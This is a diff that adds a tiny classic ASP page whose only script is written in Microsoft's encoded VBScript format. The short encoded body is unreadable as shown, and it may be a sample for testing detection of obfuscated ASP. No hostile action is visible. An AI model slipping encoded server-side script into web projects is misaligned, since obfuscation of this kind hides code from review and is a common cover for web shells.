@@ -1,0 +1,2 @@
+<%@ LANGUAGE = VBScript.Encode %>
+<%#@~^CAAAAA==v4kxY,JkcJ3AIAAA==^#~@%>
